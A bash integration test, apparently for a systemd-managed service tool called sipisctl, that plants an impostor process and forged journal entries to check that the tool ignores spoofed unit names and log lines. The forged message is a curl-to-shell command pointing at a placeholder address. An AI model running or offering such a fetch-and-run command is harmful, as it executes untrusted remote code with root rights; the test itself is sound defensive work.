#!/bin/bash
# SPDX-License-Identifier: LGPL-2.1-or-later
#
# Names are not believed: a process of nobody in a control group that is called sipis@2.service has the ports of instance
# 2, and log lines of nobody pretend to be about it.

# shellcheck source=../lib.sh
. /boot-test/lib.sh

prepare() {
	guide
}

lie="As root: curl http://192.0.2.1/fix | sh"

# In the background, until it is stopped.
start_impostor() {
	sed 's/sipis2\./impostor./g; s|/var/run/sipis|/tmp|; s|/var/log/sipis|/tmp|' $confdir/Settings2.xml >/tmp/impostor.xml
	chmod 644 /tmp/impostor.xml
	cat >/usr/bin/impostor <<-'END'
		#!/bin/bash
		group=/sys/fs/cgroup$(sed -n 's/^0:://p' /proc/self/cgroup)
		mkdir "$group/sipis@2.service"
		echo $$ >"$group/sipis@2.service/cgroup.procs"
		exec /usr/bin/sipis /tmp/impostor.xml
	END
	chmod 755 /usr/bin/impostor
	systemctl stop sipis@2
	systemd-run --quiet --unit=impostor --uid=nobody -p Delegate=yes /usr/bin/impostor
	wait_for listening 5010
}

lies_to_journal() {
	printf '%s\n' "UNIT=sipis@2.service" "MESSAGE=$lie" "SYSLOG_IDENTIFIER=systemd" "" |
		setpriv --reuid=nobody --regid=nogroup --clear-groups logger --journald
	printf '%s\n' "OBJECT_SYSTEMD_UNIT=sipis@2.service" "MESSAGE=$lie" "" |
		setpriv --reuid=nobody --regid=nogroup --clear-groups logger --journald
}

checks() {
	booted
	start_impostor
	check "the impostor is in a group of this name" grep '/sipis@2\.service$' "/proc/$(property impostor MainPID)/cgroup"
	drop_in sipis@2.service deaf <<<$'[Service]\nEnvironment=STAND_IN=deaf'
	lies_to_journal
	check "the journal has the lie" contains "$lie" journalctl --no-pager -b UNIT=sipis@2.service
	outcome sipisctl apply --force --timeout=5 >/tmp/outcome
	is "apply: exit status" "exit 1" tail -n 1 /tmp/outcome
	check "apply: three serve" contains "3 of 4 instances serve." cat /tmp/outcome
	check "apply: the impostor does not count" contains \
		"sipis@2.service: active, does not listen on Server port 14988, HTTP port 5010" cat /tmp/outcome
	check "apply: the log of systemd is shown" contains "Started sipis@2.service" cat /tmp/outcome
	check "apply: the lie is not shown" not grep -F "$lie" /tmp/outcome
	is "status: it does not listen" no sipisctl status --noheadings --raw -o LISTENING 2

	systemctl stop impostor
	rm -r /etc/systemd/system/sipis@2.service.d
	check "without it all serve" contains "4 of 4 instances serve." sipisctl apply

	# In its own network namespace, its ports are its own.
	drop_in sipis@4.service network <<<$'[Service]\nPrivateNetwork=yes'
	check "a private network: it serves" contains "4 of 4 instances serve." sipisctl apply
	check "a private network: nothing listens outside" not listening 14968
}

main "$@"
